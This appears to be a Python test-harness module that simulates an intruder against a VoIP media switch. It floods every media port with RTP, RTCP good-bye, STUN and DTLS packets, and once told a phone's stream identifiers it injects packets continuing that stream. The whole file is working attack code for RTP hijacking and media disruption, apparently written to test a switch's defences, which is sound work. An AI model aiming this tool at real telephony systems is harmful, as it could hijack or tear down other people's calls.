"""Somebody at another address who sends to every media port of the switch, and hopes to hear.

A process of its own, because 40,000 packets a second leave no time for phones. One system call
sends ten packets to one port (UDP_SEGMENT of Linux), another ten to the next. What he sends changes
from round to round: RTP with guessed payload types, in sequence, as a latch wants it; RTCP that
says good-bye; STUN and DTLS. Once he is told what the phones send, he continues their streams.
"""

from __future__ import annotations

import multiprocessing
import random
import socket
import struct
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import suppress
from itertools import cycle
from multiprocessing.connection import Connection
from typing import NamedTuple, Self

HOST = "127.0.0.66"
MARK = b"intruder"
"""In every packet of his that could be taken for sound."""
SALVO = 10
"""Packets to one port at once; four in sequence are enough for a latch to learn."""
PAUSE = 0.005
"""Seconds between bursts of salvos."""
PATIENCE = 10.0
UDP_SEGMENT = 103
"""Of SOL_UDP; Python has no name for it."""
BEGINNING = 40
"""Octets of what he hears that are kept."""
FRAME = 160
PAYLOAD = (MARK * FRAME)[:FRAME]
RTP = struct.Struct("!BBHII")
ROUNDS = ("rtp", "rtp", "rtcp", "rtp", "stun", "rtp", "dtls")
PAYLOAD_TYPES = (0, 0, 8, 0, 101)

Salvo = tuple[bytes, int]
"""Packets, one behind the other, and the octets of each."""


class Known(NamedTuple):
    """What somebody who reads the wire knows of a phone's stream."""

    ssrc: int
    sequence: int
    """Now."""
    interval: float
    """Seconds between packets."""


class Spoils(NamedTuple):
    """What came of it."""

    sent: Counter[str]
    """Packets, by kind."""
    heard: list[tuple[str, int, bytes]]
    """Datagrams that came to his socket: from where, and how they begin."""
    seconds: float


class Attacker:
    """From entering the block until `stop`, or until it is left. `rate`: packets per second and
    port; `host`, where the switch is."""

    def __init__(self, host: str, ports: Sequence[int], rate: float) -> None:
        context = multiprocessing.get_context("spawn")
        self._pipe, theirs = context.Pipe()
        self._process = context.Process(
            target=_attack, args=(theirs, host, list(ports), rate), daemon=True
        )

    def __enter__(self) -> Self:
        self._process.start()
        assert self._pipe.poll(PATIENCE)
        self._pipe.recv()
        return self

    def __exit__(self, *_: object) -> None:
        if self._process.is_alive():
            self._process.kill()
        self._process.join()
        self._process.close()
        self._pipe.close()

    def learn(self, streams: dict[int, Known]) -> None:
        """By port of the switch, what a phone sends there."""
        self._pipe.send(streams)

    def stop(self) -> Spoils:
        self._pipe.send(None)
        assert self._pipe.poll(PATIENCE), "the attacker is gone"
        spoils: Spoils = self._pipe.recv()
        self._process.join(PATIENCE)
        return spoils


def _attack(pipe: Connection, host: str, ports: list[int], rate: float) -> None:
    """The process."""
    sent: Counter[str] = Counter()
    heard: list[tuple[str, int, bytes]] = []
    fired = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
        door.bind((HOST, 0))
        weapon = _Weapon()
        shots = _shots(ports)
        pipe.send("ready")
        begin = time.monotonic()
        while not pipe.poll() or weapon.learns(pipe.recv()):
            due = round((time.monotonic() - begin) * rate * len(ports) / SALVO)
            for kind, port in (next(shots) for _ in range(due - fired)):
                _fire(door, weapon.load(kind, port), (host, port))
                sent[kind] += SALVO
            fired = max(fired, due)
            time.sleep(PAUSE)
            heard += _listen(door)
        seconds = time.monotonic() - begin
        time.sleep(PAUSE)
        heard += _listen(door)
    pipe.send(Spoils(sent, heard, seconds))


def _shots(ports: list[int]) -> Iterator[tuple[str, int]]:
    """Round after round, each kind in turn to every port."""
    for kind in cycle(ROUNDS):
        for port in ports:
            yield kind, port


def _fire(door: socket.socket, salvo: Salvo, to: tuple[str, int]) -> None:
    data, size = salvo
    door.sendmsg([data], [(socket.SOL_UDP, UDP_SEGMENT, struct.pack("=H", size))], 0, to)


def _listen(door: socket.socket) -> list[tuple[str, int, bytes]]:
    """The datagrams that wait."""
    heard = []
    with suppress(BlockingIOError):
        while True:
            data, (host, port) = door.recvfrom(2048, socket.MSG_DONTWAIT)
            heard.append((host, port, data[:BEGINNING]))
    return heard


class _Weapon:
    """Makes the packets."""

    def __init__(self) -> None:
        self._known: dict[int, Known] = {}
        self._since = time.monotonic()
        self._types = cycle(PAYLOAD_TYPES)
        self._blind = Known(random.getrandbits(32), random.getrandbits(16), 1.0)
        self._count = 0

    def learns(self, streams: dict[int, Known] | None) -> bool:
        """None: it is over."""
        self._since = time.monotonic()
        self._known = streams or {}
        return streams is not None

    def load(self, kind: str, port: int) -> Salvo:
        self._count += 1
        known = self._known.get(port) or self._known.get(port & ~1)
        if kind == "rtp":
            return self._rtp(known)
        if kind == "rtcp":
            return _rtcp((known or self._blind).ssrc)
        return _stun() if kind == "stun" else _dtls()

    def _rtp(self, known: Known | None) -> Salvo:
        """In sequence; of a known stream those that are about to come and have just come."""
        if known is None:
            ssrc, first = self._blind.ssrc, self._blind.sequence + SALVO * self._count
        else:
            passed = (time.monotonic() - self._since) / known.interval
            ssrc, first = known.ssrc, known.sequence + round(passed) - SALVO // 2
        payload_type = next(self._types)
        packets = [
            RTP.pack(0x80, payload_type, place & 0xFFFF, place * FRAME & 0xFFFF_FFFF, ssrc)
            + PAYLOAD
            for place in range(first, first + SALVO)
        ]
        return b"".join(packets), RTP.size + FRAME


def _rtcp(ssrc: int) -> Salvo:
    """A sender report and a good-bye (RFC 3550 §6.4.1, §6.6)."""
    report = struct.pack("!BBHI", 0x80, 200, 6, ssrc) + random.randbytes(20)
    packet = report + struct.pack("!BBHI", 0x81, 203, 1, ssrc)
    return packet * SALVO, len(packet)


def _stun() -> Salvo:
    """Binding requests (RFC 8489 §5) without a name."""
    packets = [struct.pack("!HHI", 1, 0, 0x2112_A442) + random.randbytes(12) for _ in range(SALVO)]
    return b"".join(packets), len(packets[0])


def _dtls() -> Salvo:
    """Records that begin as a ClientHello does (RFC 6347 §4.1), alerts and key changes."""
    packets = [
        struct.pack("!BHHHIH", random.choice((20, 21, 22)), 0xFEFD, 0, 0, place, 64)
        + b"\x01"
        + random.randbytes(63)
        for place in range(SALVO)
    ]
    return b"".join(packets), len(packets[0])
